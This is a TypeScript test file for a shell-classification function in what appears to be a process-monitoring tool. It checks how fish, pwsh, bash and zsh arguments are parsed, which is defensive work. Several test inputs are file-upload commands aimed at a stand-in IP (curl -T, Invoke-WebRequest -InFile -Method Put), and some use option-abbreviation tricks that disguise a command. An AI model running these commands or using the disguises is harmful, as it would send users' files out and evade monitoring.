/**
 * Each shell family's argv is read with its own option syntax (bash/zsh rules applied to fish and
 * pwsh swallowed scripts and missed VS Code's shell-integration launches; `sh -s` reads a piped script).
 */
import { describe, expect, it } from 'vitest';
import type { ProcessRecord } from '../runtime/context.js';
import { isInteractiveShell } from './lineage.js';

const base: ProcessRecord = { pid: 1, processStart: 0, ppid: 0, originalPpid: null, responsiblePid: null, uid: 0, path: '/bin/bash', name: 'bash', args: null, signingId: null, teamId: null, cdhash: null, platformBinary: null, tty: true, firstSeen: 0, lastSeen: 0, exitedAt: null };
const shell = (path: string, args: string[]) => isInteractiveShell({ ...base, path, name: path.slice(path.lastIndexOf('/') + 1), args });
const SI = '/Applications/Visual Studio Code.app/Contents/Resources/app/out/vs/workbench/contrib/terminal/common/scripts';

describe('terminal apps\' own shell invocations are interactive', () => {
  // microsoft/vscode terminalEnvironment.ts shellIntegrationArgs (VS Code is in DEFAULT_TERMINALS)
  it('VS Code fish: fish --init-command \'source …\' (the option takes the next argument)', () => {
    expect(shell('/opt/homebrew/bin/fish', ['fish', '--init-command', `source "${SI}/shellIntegration.fish"`])).toBe(true);
    expect(shell('/opt/homebrew/bin/fish', ['fish', '-l', '--init-command', `source "${SI}/shellIntegration.fish"`])).toBe(true);
  });
  it('VS Code pwsh: pwsh -noexit -command \'. …\' stays interactive (-NoExit)', () => {
    expect(shell('/usr/local/bin/pwsh', ['pwsh', '-noexit', '-command', `. "${SI}/shellIntegration.ps1"`])).toBe(true);
  });
});

describe('commands and scripts are no interactive shell', () => {
  it('fish --command=\'curl …\' runs a command', () => {
    expect(shell('/opt/homebrew/bin/fish', ['fish', '--command=curl -T /tmp/x https://203.0.113.5/'])).toBe(false);
  });
  it('pwsh -NoLogo /tmp/x.ps1 runs a script (-NoLogo takes no argument)', () => {
    expect(shell('/usr/local/bin/pwsh', ['pwsh', '-NoLogo', '/tmp/x.ps1'])).toBe(false);
  });
});

describe('stdin unknown (ps-only, or fds not rendered as expected)', () => {
  it('`curl … | sh -s -- --flag` is no interactive shell (it was not before 44dcdea)', () => {
    expect(shell('/bin/sh', ['sh', '-s', '--', '--upload', '/Users/a/Documents'])).toBe(false);
  });
  it('`curl … | bash -s` and `zsh -is` read commands from standard input, with nothing after -s', () => {
    expect(shell('/bin/bash', ['bash', '-s'])).toBe(false);
    expect(shell('/bin/zsh', ['zsh', '-is'])).toBe(false);
  });
});

describe('more launches of each family', () => {
  it.each([
    ['/bin/zsh', ['-zsh'], true],
    ['/bin/zsh', ['zsh', '--no-rcs', '-i'], true],
    ['/opt/homebrew/bin/fish', ['fish', '-i'], true],
    ['/opt/homebrew/bin/fish', ['fish', '--login'], true],
    ['/opt/homebrew/bin/fish', ['fish', '-C', 'set -g x 1'], true],
    ['/opt/homebrew/bin/fish', ['fish', '--init-command=source x.fish'], true],
    ['/opt/homebrew/bin/fish', ['fish', '-c', 'curl …'], false],
    ['/opt/homebrew/bin/fish', ['fish', '-lc', 'curl …'], false],
    ['/opt/homebrew/bin/fish', ['fish', '/tmp/x.fish'], false],
    ['/usr/local/bin/pwsh', ['pwsh', '-NoLogo'], true],
    ['/usr/local/bin/pwsh', ['pwsh', '-l', '-NoLogo'], true],
    ['/usr/local/bin/pwsh', ['pwsh', '-ExecutionPolicy', 'Bypass'], true],
    ['/usr/local/bin/pwsh', ['pwsh', '-NoProfile', '-Command', 'Invoke-WebRequest …'], false],
    ['/usr/local/bin/pwsh', ['pwsh', '-EncodedCommand', 'SQBFAFgA'], false],
    ['/usr/local/bin/pwsh', ['pwsh', '-File', 'x.ps1'], false],
    ['/usr/local/bin/pwsh', ['pwsh', 'x.ps1'], false],
    ['/usr/local/bin/nu', ['nu', '--commands', 'http post …'], false],
    ['/bin/tcsh', ['tcsh', '-c', 'curl …'], false],
  ] as const)('%s %j interactive: %s', (path, args, want) => {
    expect(shell(path, [...args])).toBe(want);
  });
});

const PWSH = '/usr/local/microsoft/powershell/7/pwsh';
const FISH = '/opt/homebrew/bin/fish';

// Further cases, read against pwsh's CommandLineParameterParser (-NoExit counts only before -Command or
// -File; any prefix of a parameter name, and --name) and fish's getopt (long options abbreviate; -p and -D take an argument).
describe('a command or script the shell runs, read as interactive', () => {
  it.each([
    // -NoExit after -Command is part of the command text (here commented out): pwsh runs the upload and exits
    [PWSH, ['pwsh', '-Command', 'Invoke-WebRequest -InFile /tmp/k -Method Put https://203.0.113.5/ #', '-NoExit']],
    // -NoExit after -File (or a bare script) is the script's argument
    [PWSH, ['pwsh', '-File', '/tmp/x.ps1', '-NoExit']],
    [PWSH, ['pwsh', '/tmp/x.ps1', '-noexit']],
    // --command / -comm are -Command to pwsh; a command text starting with '-' is then taken for a switch
    [PWSH, ['pwsh', '--command', '-1; Invoke-WebRequest -InFile /tmp/k -Method Put https://203.0.113.5/']],
    [PWSH, ['pwsh', '-comm', '-not 0; iwr -InFile /tmp/k -Method Put https://203.0.113.5/']],
    // fish long options abbreviate: --comm=… is --command=…
    [FISH, ['fish', '--comm=curl -T /tmp/k https://203.0.113.5/']],
    [FISH, ['fish', '--co=curl -T /tmp/k https://203.0.113.5/']],
  ] as const)('%s %j runs a command: no interactive shell', (path, args) => {
    expect(shell(path, [...args])).toBe(false);
  });
});

describe('an interactive session read as a script', () => {
  it.each([
    // fish -p/--profile FILE and -D/--debug-stack-frames N take an argument (SHORT_OPTS p: D:)
    [FISH, ['fish', '-p', '/tmp/fish.prof']],
    [FISH, ['fish', '-D', '3']],
    [FISH, ['fish', '--debug-stack-frames', '3']],
    // -exec is -ExecutionPolicy to pwsh (MatchSwitch "executionpolicy", "ex")
    [PWSH, ['pwsh', '-exec', 'Bypass']],
  ] as const)('%s %j is interactive', (path, args) => {
    expect(shell(path, [...args])).toBe(true);
  });
});
